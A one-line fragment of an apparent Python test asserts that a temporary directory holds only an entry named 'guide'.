    assert sorted(p.name for p in tmp_path.iterdir()) == ["guide"]
